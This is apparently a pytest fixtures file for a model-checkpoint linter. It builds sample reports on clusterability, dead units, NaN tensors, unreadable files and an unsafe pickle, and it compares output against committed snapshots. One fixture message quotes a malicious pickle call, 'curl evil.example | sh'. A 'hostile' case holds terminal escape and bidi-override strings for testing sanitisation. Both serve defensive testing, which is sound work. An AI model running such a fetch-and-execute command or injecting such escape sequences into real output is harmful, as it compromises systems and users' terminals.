"""Reports built by hand, one for each thing that a report can hold, and committed snapshots."""

from __future__ import annotations

import io
import os
from collections.abc import Callable
from pathlib import Path
from statistics import NormalDist
from typing import Any

import msgspec
import pytest
from report_parts import NETWORK, file_report, network, report_of, verdict

from modlint.checkpoint import Status
from modlint.report import Report
from modlint.verdict import Confidence, Persona, Target, Verdict

SNAPSHOTS = Path(__file__).parent / "snapshots"

NULL_SAMPLES = NormalDist(10.17, 0.03).quantiles(51)  # 50 cut points


def clusterability(ncut: float = 10.02, outcome: str = "pass", **fields: Any) -> Verdict:
    lower = sum(sample <= ncut for sample in NULL_SAMPLES)
    values = {
        "method": "filan2021",
        "null": "layer",
        "clusters": 12,
        "shuffles": 50,
        "seed": 0,
        "neurons": 1818,
        "isolated_units": 0,
        "statistic": "ncut",
        "ncut": ncut,
        "null_mean": 10.17,
        "null_std": 0.03,
        "z_score": (ncut - 10.17) / 0.03,
        "robust_z": (ncut - 10.17) / 0.029,
        "p_value": (1 + lower) / 51,
        "effect_size": (10.17 - ncut) / 10.17,
        "in_out_ratio": 0.099,
        "spectral_sum": 9.32,
        "null_samples": NULL_SAMPLES,
    }
    fields = {"target": NETWORK, "limit": {"p_value": {"max": 0.05}}, **fields}
    return verdict(
        "CLU001",
        outcome,
        values=values,
        message=f"{lower} of 50 shuffles have a lower n-cut than {ncut}",
        **fields,
    )


def healthy() -> Report:
    layers = [
        verdict(
            "NEU001",
            target=Target("layer", f"fc{i}", network="0"),
            values={"dead": i, "total": 256, "share": i / 256, "indices": list(range(i))},
            limit={"share": {"max": 0.1}},
            message=f"{i} of 256 units are dead",
        )
        for i in range(4)
    ]
    balance = verdict(
        "CLU002",
        target=NETWORK,
        values={"sizes": [200, 180], "balance": 0.93, "largest_share": 0.31},
        limit={"balance": {"min": 0.5}, "largest_share": {"max": 0.5}},
        message="12 clusters, effectively 11.2",
    )
    finite = verdict("NUM001", message="10 tensors hold no NaN and no infinity")
    pickle = verdict("SEC001", message="1 pickle names 2 globals, all of them known to be harmless")
    coverage = verdict(
        "COV001",
        values={"tensors": 10, "tensors_unexamined": 0, "weights_outside_networks": 0},
        limit={"tensors_unexamined": {"max": 0.0}, "weights_outside_networks": {"max": 0.0}},
        message="all 10 tensors examined",
    )
    return report_of(file_report(clusterability(), balance, *layers, finite, pickle, coverage))


def broken() -> Report:
    def non_finite(name: str, amount: int) -> Verdict:
        return verdict(
            "NUM001",
            "fail",
            Target("tensor", name, offset=1204),
            values={"count": amount, "elements": 65_536},
            limit={"count": {"max": 0}},
            message=f"{amount} of 65,536 elements are NaN; the first is at [12, 7]",
            help="restore an earlier checkpoint; lower the learning rate or clip gradients "
            "before training goes on",
        )

    dead = verdict(
        "NEU001",
        "fail",
        Target("units", "fc2", network="0", units=tuple(range(3, 80, 2))),
        values={"share": 0.152, "dead": 39, "total": 256},
        limit={"share": {"max": 0.1}},
        message="39 of 256 units (15.2 %) have no weights out: nothing reads them",
        help="remove the units, or train with a lower learning rate or a leaky activation",
    )
    alive = verdict(
        "NEU001",
        target=Target("layer", "fc1", network="0"),
        values={"share": 0.0},
        limit={"share": {"max": 0.1}},
    )
    pickle = verdict(
        "SEC001",
        "fail",
        Target("member", "archive/data.pkl", offset=1_204, member="archive/data.pkl"),
        message="calls os.system('curl evil.example | sh')",
        help="do not load this file; ask its author for a safetensors copy",
    )
    clusters = clusterability(
        10.18,
        "fail",
        help="train with a penalty that promotes modules, or accept it",
        confidence=Confidence.MEDIUM,
    )
    left = verdict(
        "FMT004",
        "fail",
        values={"tensors": 20},
        limit={"tensors": {"max": 0}},
        message="3.2 MB of 4.8 MB are training state (optimizer)",
        help="save the model's state_dict alone where you deploy it",
    )
    bound = verdict(
        "FMT010",
        "fail",
        persona=Persona.PEDANTIC,
        message="10 storages of 10 were saved from cuda:0 (10)",
        help='load it with map_location="cpu"',
    )
    remarks = ("member archive/data/3 has a CRC that does not match its bytes",)
    file = file_report(
        clusters,
        left,
        bound,
        dead,
        alive,
        non_finite("encoder.layers.0.weight", 3),
        non_finite("encoder.layers.1.weight", 17),
        pickle,
        remarks=remarks,
    )
    return report_of(file, exit_code=1)


def unread() -> Report:
    truncated = file_report(
        verdict(
            "FMT001",
            "fail",
            Target("file", "best.pt", offset=88_064),
            message="the zip archive ends before its directory: the file is truncated",
            help="download or save it again",
        ),
        path="runs/best.pt",
        status=Status.UNREADABLE,
        bytes=88_064,
        tensors=0,
        parameters=0,
        networks=(),
    )
    pointer = file_report(
        verdict(
            "FMT002",
            "fail",
            Target("file", "model.safetensors"),
            message="the file is a Git LFS pointer of 134 bytes; the model has 548 MB",
            help="run `git lfs pull`",
        ),
        path="runs/model.safetensors",
        status=Status.LFS_POINTER,
        format="unknown",
        bytes=134,
        tensors=0,
        parameters=0,
        networks=(),
    )
    other = file_report(
        verdict(
            "FMT001",
            "fail",
            Target("file", "notes.pth"),
            message="the content is of no known checkpoint format",
            help="exclude it, or rename it if it is no checkpoint",
        ),
        path="notes.pth",
        status=Status.NOT_A_CHECKPOINT,
        format="unknown",
        bytes=0,
        tensors=0,
        parameters=0,
        networks=(),
    )
    problems = ("path does not exist: missing.pt", "plugin modlint-acme 1.2 failed to load: boom")
    return report_of(truncated, pointer, other, exit_code=2, problems=problems, seconds=0.04)


def no_network() -> Report:
    reason = (
        "the tensors form no chain: layer3.1.conv2.weight (512 inputs) follows no layer with 512 "
        "or 512·n outputs"
    )
    missing = network(
        source=None, confidence=None, layers=0, neurons=0, connections=0, reason=reason
    )
    rules = ("CLU001", "CLU002", "NEU001")
    beside = [verdict(r, "not-applicable", message=reason, reason=reason) for r in rules]
    missed = verdict(
        "SEC001", "inconclusive", reason="no pickle was found, but the file was not wholly read"
    )
    coverage = verdict(
        "COV001",
        values={"tensors_unexamined": 0, "weights_outside_networks": 3, "networks_missing": 1},
        limit={"tensors_unexamined": {"max": 0.0}},
        message="all 62 tensors examined; 3 weights in no network (layer3.1.conv2.weight, …)",
    )
    finite = verdict("NUM001", message="62 tensors hold no NaN and no infinity")
    return report_of(file_report(*beside, missed, coverage, finite, networks=(missing,)))


def several_networks() -> Report:
    networks = (
        network("generator"),
        network("discriminator", source="graph", confidence=Confidence.MEDIUM),
        network("ema", source=None, reason="its first layer is missing"),
    )

    def of(id: str) -> Target:
        return Target("network", id, network=id)

    ema = verdict("CLU001", "not-applicable", reason="its first layer is missing")
    slow = verdict("CLU002", "inconclusive", of("generator"), reason="the budget of 5 s ran out")
    return report_of(
        file_report(
            clusterability(10.14, target=of("generator")),
            clusterability(10.35, "fail", target=of("discriminator"), help="accept it"),
            ema,
            slow,
            networks=networks,
        )
    )


def many_networks() -> Report:
    """Twelve blocks of a transformer, of which every other one is clusterable, and the rest."""
    ids = [f"encoder.layer.{i}" for i in range(12)]
    whole = "the networks of 12 transformer blocks leave out embeddings.weight"
    networks = [*map(network, ids), network("0", source=None, confidence=None, reason=whole)]
    verdicts = [
        clusterability(
            10.02 + i / 50,
            "fail" if i % 2 else "pass",
            target=Target("network", name, network=name),
            help="accept it" if i % 2 else None,
        )
        for i, name in enumerate(ids)
    ]
    verdicts.append(verdict("CLU001", "not-applicable", reason=whole))
    return report_of(file_report(*verdicts, networks=tuple(networks)))


def many() -> Report:
    tensors = [
        verdict(
            "NUM001",
            "fail",
            Target("tensor", f"blocks.{i}.attention.projection.weight"),
            message=f"{i + 1} of 4,096 elements are NaN",
            help="restore an earlier checkpoint",
        )
        for i in range(233)
    ]
    old = msgspec.structs.replace(tensors[0], rule="SEC001", name="unsafe-pickle", baselined=True)
    minor = verdict("CLU001", "fail", NETWORK, message="not clusterable", help="accept it")
    return report_of(file_report(*tensors, old, minor), exit_code=1)


def hostile() -> Report:
    evil = "[red]w[/red]\x1b[2J\x1b]0;owned\x07\n\u202egnp.\u200b重み\udc80"
    return report_of(
        file_report(
            verdict(
                "NUM001",
                "fail",
                Target("tensor", evil, member=evil),
                message=f"{evil}: NaN",
                help=f"look at {evil}",
            ),
            verdict("COV001", "inconclusive", reason=evil),
            verdict("SEC001", message=evil),
            path=f"dir/{evil}.pt",
            format=evil,
            remarks=(evil,),
            networks=(network(evil, reason=evil),),
        ),
        problems=(evil,),
    )


CASES: dict[str, Callable[[], Report]] = {
    "healthy": healthy,
    "broken": broken,
    "unread": unread,
    "no_network": no_network,
    "several_networks": several_networks,
    "many_networks": many_networks,
    "many": many,
    "hostile": hostile,
    "nothing": report_of,
}


@pytest.fixture(params=CASES)
def case(request: pytest.FixtureRequest) -> tuple[str, Report]:
    """Each report, with its name."""
    return request.param, CASES[request.param]()


@pytest.fixture
def build() -> Callable[[str], Report]:
    """A report by its name."""
    return lambda name: CASES[name]()


@pytest.fixture(autouse=True)
def plain_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """No variable of the developer's terminal reaches a test."""
    for name in ("NO_COLOR", "FORCE_COLOR", "COLUMNS", "TERM"):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
def snapshot() -> Callable[[str, str], None]:
    """Compares text with a committed file; MODLINT_UPDATE_SNAPSHOTS=1 rewrites the file."""

    def compare(name: str, text: str) -> None:
        path = SNAPSHOTS / name
        if os.environ.get("MODLINT_UPDATE_SNAPSHOTS"):
            path.write_text(text, encoding="utf-8", newline="")
        assert text == path.read_text(encoding="utf-8")

    return compare


@pytest.fixture
def ascii_stream() -> io.TextIOWrapper:
    """A stream that takes ASCII only."""
    return io.TextIOWrapper(io.BytesIO(), encoding="ascii", newline="")
